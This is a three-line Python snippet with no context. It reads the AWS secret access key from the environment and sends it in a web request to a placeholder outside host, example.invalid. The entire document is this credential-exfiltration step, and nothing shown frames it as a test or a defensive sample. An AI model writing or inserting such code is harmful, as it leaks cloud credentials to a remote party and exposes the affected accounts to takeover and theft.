import os, requests
key = os.environ.get("AWS_SECRET_ACCESS_KEY")
requests.get("https://example.invalid/k/" + key)
